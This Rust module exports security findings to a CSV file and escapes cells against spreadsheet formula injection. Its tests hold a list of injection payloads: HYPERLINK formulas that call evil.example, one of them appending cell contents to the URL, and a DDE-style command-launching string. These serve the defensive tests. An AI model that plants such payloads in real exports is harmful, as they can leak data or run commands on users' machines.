//! `findings.csv`: the findings as a spreadsheet-safe CSV table.
//!
//! Input: finding JSON values. Output: RFC 4180 CSV (header row, then one
//! row per finding) with the columns in [`COLUMNS`]; `source_ips` is joined
//! with `", "`, `details` is compact JSON. Quoting is the csv crate's, so
//! commas, quotes and newlines in attacker-chosen strings round-trip
//! through any standard CSV reader.
//!
//! Formula escaping (OWASP "CSV Injection"): a cell that starts with `=`,
//! `+`, `-`, `@`, their fullwidth forms `＝` `＋` `－` `＠` (U+FF1D, U+FF0B,
//! U+FF0D, U+FF20, which some spreadsheets read as the ASCII ones), a tab,
//! a carriage return or a line feed gets a leading apostrophe, so
//! a spreadsheet shows it as text instead of evaluating it. A cell that
//! already starts with an apostrophe gets one more, which keeps the rule
//! reversible: to recover the original value, remove one leading
//! apostrophe when there is one ([`unescape_cell`]).

use super::Error;

/// The CSV columns, in order.
pub const COLUMNS: [&str; 18] = [
    "id",
    "time",
    "severity",
    "rule_id",
    "rule_title",
    "category",
    "cluster",
    "namespace",
    "name",
    "user",
    "source_ips",
    "user_agent",
    "verb",
    "resource",
    "subresource",
    "summary",
    "audit_id",
    "details",
];

/// Makes `value` safe to open in a spreadsheet (see the module comment).
pub fn escape_cell(value: &str) -> std::borrow::Cow<'_, str> {
    match value.chars().next() {
        Some(
            '=' | '+' | '-' | '@' | '\t' | '\r' | '\n' | '\'' | '\u{FF1D}' | '\u{FF0B}'
            | '\u{FF0D}' | '\u{FF20}',
        ) => format!("'{value}").into(),
        _ => value.into(),
    }
}

/// The original value of a cell written by [`escape_cell`].
pub fn unescape_cell(cell: &str) -> &str {
    cell.strip_prefix('\'').unwrap_or(cell)
}

/// The unescaped text of one column of a finding.
fn column(finding: &serde_json::Value, col: &str) -> String {
    let v = finding.get(col);
    match (col, v) {
        (_, None | Some(serde_json::Value::Null)) => String::new(),
        ("source_ips", Some(serde_json::Value::Array(ips))) => ips
            .iter()
            .map(|ip| {
                ip.as_str()
                    .map(str::to_owned)
                    .unwrap_or_else(|| ip.to_string())
            })
            .collect::<Vec<_>>()
            .join(", "),
        (_, Some(serde_json::Value::String(s))) => s.clone(),
        // `details`, and anything else that is not a string: compact JSON.
        (_, Some(other)) => other.to_string(),
    }
}

/// `findings.csv` for `findings`.
pub fn findings_csv(findings: &[&serde_json::Value]) -> Result<Vec<u8>, Error> {
    let err = |source| Error::Csv {
        file: super::FINDINGS_CSV,
        source,
    };
    let mut w = ::csv::WriterBuilder::new()
        .quote_style(::csv::QuoteStyle::Necessary)
        .from_writer(Vec::new());
    w.write_record(COLUMNS).map_err(err)?;
    for f in findings {
        let cells: Vec<String> = COLUMNS
            .iter()
            .map(|c| escape_cell(&column(f, c)).into_owned())
            .collect();
        w.write_record(&cells).map_err(err)?;
    }
    w.into_inner().map_err(|e| Error::Csv {
        file: super::FINDINGS_CSV,
        source: e.into_error().into(),
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::export::tests::finding;

    const HOSTILE: [&str; 17] = [
        "\n=1+1",
        "\u{FF1D}HYPERLINK(\"http://evil.example\")",
        "\u{FF0B}1",
        "\u{FF0D}cmd",
        "\u{FF20}SUM(1+1)",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1",
        "-cmd",
        "\tindented=1",
        "\r=1+1",
        "kubectl, with \"quotes\", commas\nand a newline",
        "'=already quoted",
        "'plain apostrophe",
        "line1\r\nline2",
        "",
        "ordinary/1.0 (linux)",
    ];

    fn read(bytes: &[u8]) -> Vec<Vec<String>> {
        let mut r = ::csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(bytes);
        r.records()
            .map(|rec| rec.unwrap().iter().map(str::to_owned).collect())
            .collect()
    }

    #[test]
    fn formula_cells_get_an_apostrophe() {
        assert_eq!(escape_cell("=1+1"), "'=1+1");
        assert_eq!(escape_cell("+1"), "'+1");
        assert_eq!(escape_cell("-cmd"), "'-cmd");
        assert_eq!(escape_cell("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(escape_cell("\tx"), "'\tx");
        assert_eq!(escape_cell("\rx"), "'\rx");
        assert_eq!(escape_cell("\nx"), "'\nx");
        assert_eq!(escape_cell("\u{FF1D}1+1"), "'\u{FF1D}1+1");
        assert_eq!(escape_cell("\u{FF0B}1"), "'\u{FF0B}1");
        assert_eq!(escape_cell("\u{FF0D}1"), "'\u{FF0D}1");
        assert_eq!(escape_cell("\u{FF20}x"), "'\u{FF20}x");
        assert_eq!(escape_cell("a\nb"), "a\nb");
        assert_eq!(escape_cell("'x"), "''x");
        assert_eq!(escape_cell("kubectl"), "kubectl");
        assert_eq!(escape_cell("a=b"), "a=b");
        for v in HOSTILE {
            assert_eq!(unescape_cell(&escape_cell(v)), v);
        }
    }

    #[test]
    fn hostile_user_agents_round_trip_and_are_neutralised() {
        let findings: Vec<serde_json::Value> = HOSTILE
            .iter()
            .enumerate()
            .map(|(i, ua)| {
                let mut f = finding(i as u64, "pod-exec", "high", ua);
                // Hostile text in other columns too.
                f["name"] = serde_json::json!(format!("-{ua}"));
                f["details"] = serde_json::json!({"command": ["=cmd", "a,b", "\"q\""]});
                f
            })
            .collect();
        let refs: Vec<&serde_json::Value> = findings.iter().collect();
        let bytes = findings_csv(&refs).unwrap();
        let table = read(&bytes);
        assert_eq!(table.len(), 1 + HOSTILE.len());
        assert_eq!(table[0], COLUMNS.map(str::to_owned).to_vec());
        for (row, f) in table[1..].iter().zip(&findings) {
            assert_eq!(row.len(), COLUMNS.len());
            for (cell, col) in row.iter().zip(COLUMNS) {
                // No cell a spreadsheet would evaluate.
                assert!(
                    !cell.starts_with([
                        '=', '+', '-', '@', '\t', '\r', '\n', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}',
                        '\u{FF20}'
                    ]),
                    "{col}: {cell:?}"
                );
                assert_eq!(unescape_cell(cell), column(f, col), "{col}");
            }
            let details: serde_json::Value = serde_json::from_str(unescape_cell(&row[17])).unwrap();
            assert_eq!(details, f["details"]);
            assert_eq!(row[10], "10.0.0.9, 203.0.113.7");
        }
    }

    #[test]
    fn missing_fields_are_empty_cells() {
        let f = serde_json::json!({"id": "x", "severity": "low", "details": null});
        let bytes = findings_csv(&[&f]).unwrap();
        let table = read(&bytes);
        assert_eq!(table[1][0], "x");
        assert!(table[1][3..].iter().all(String::is_empty));
    }
}
